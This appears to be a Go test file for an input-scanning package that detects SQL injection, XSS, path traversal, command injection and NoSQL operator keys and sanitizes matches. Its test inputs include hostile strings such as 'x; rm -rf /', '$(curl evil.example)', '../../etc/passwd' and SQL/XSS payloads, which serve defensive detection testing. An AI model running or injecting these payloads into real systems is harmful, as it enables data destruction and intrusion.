package scanner

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func findType(threats []Threat, typ ThreatType) *Threat {
	for i := range threats {
		if threats[i].Type == typ {
			return &threats[i]
		}
	}
	return nil
}

func TestScanString_SQLInjection(t *testing.T) {
	s := New()

	cases := []string{
		"SELECT password FROM users WHERE id = 1",
		"1 UNION SELECT username, password",
		`' or '1'='1`,
	}
	for _, input := range cases {
		threats := s.ScanString("q", input)
		require.NotNil(t, findType(threats, ThreatSQLInjection), "input %q", input)
	}
}

func TestScanString_CleanInput(t *testing.T) {
	s := New()
	assert.Empty(t, s.ScanString("name", "Jordan Smith"))
	assert.Empty(t, s.ScanString("comment", "Looking forward to the launch next week!"))
}

func TestScanString_XSS(t *testing.T) {
	s := New()

	th := findType(s.ScanString("bio", `<script>alert(1)</script>`), ThreatXSS)
	require.NotNil(t, th)
	assert.Equal(t, SeverityCritical, th.Severity)

	th = findType(s.ScanString("bio", `<img src=x onerror=alert(1)>`), ThreatXSS)
	require.NotNil(t, th)
	assert.True(t, th.Severity.Blocking())
}

func TestScanString_PathTraversal(t *testing.T) {
	s := New()
	require.NotNil(t, findType(s.ScanString("file", "../../etc/passwd"), ThreatPathTraversal))
	require.NotNil(t, findType(s.ScanString("file", "%2e%2e%2fetc%2fpasswd"), ThreatPathTraversal))
}

func TestScanString_CommandInjection(t *testing.T) {
	s := New()
	require.NotNil(t, findType(s.ScanString("arg", "x; rm -rf /"), ThreatCommandInjection))
	require.NotNil(t, findType(s.ScanString("arg", "$(curl evil.example)"), ThreatCommandInjection))
	assert.Nil(t, findType(s.ScanString("arg", "the cat sat on the mat"), ThreatCommandInjection))
}

func TestScanString_TruncatesLongInput(t *testing.T) {
	s := New()

	// The payload sits past the scan bound, so it is not seen.
	input := strings.Repeat("a", MaxStringLength) + "<script>alert(1)</script>"
	assert.Empty(t, s.ScanString("body", input))

	// Exactly at the bound is scanned.
	at := strings.Repeat("a", MaxStringLength-len("<script>x")) + "<script>x"
	assert.NotEmpty(t, s.ScanString("body", at))
}

func TestScanValue_WalksNestedPayload(t *testing.T) {
	s := New()
	payload := map[string]interface{}{
		"name": "ok",
		"nested": map[string]interface{}{
			"items": []interface{}{"clean", "'; DROP TABLE users; --"},
		},
	}

	threats := s.ScanValue("", payload)
	require.NotEmpty(t, threats)
	th := findType(threats, ThreatSQLInjection)
	require.NotNil(t, th)
	assert.Contains(t, th.Field, "nested.items[1]")
}

func TestScanValue_NoSQLOperatorKeys(t *testing.T) {
	s := New()
	payload := map[string]interface{}{
		"filter": map[string]interface{}{"$where": "this.a == this.b"},
	}
	require.NotNil(t, findType(s.ScanValue("", payload), ThreatNoSQLInjection))
}

func TestSanitize_LiteralReplacement(t *testing.T) {
	s := New()

	// The matched text contains regex metacharacters; literal replacement
	// must still neutralize it.
	input := `x; rm -rf / $(id)`
	threats := s.ScanString("arg", input)
	require.NotEmpty(t, threats)

	out := s.Sanitize(input, threats)
	assert.NotContains(t, out, "rm -rf")
	assert.Contains(t, out, "[BLOCKED]")
}

func TestMaxSeverity(t *testing.T) {
	threats := []Threat{
		{Severity: SeverityMedium},
		{Severity: SeverityCritical},
		{Severity: SeverityHigh},
	}
	assert.Equal(t, SeverityCritical, MaxSeverity(threats))
	assert.Equal(t, Severity(""), MaxSeverity(nil))
}
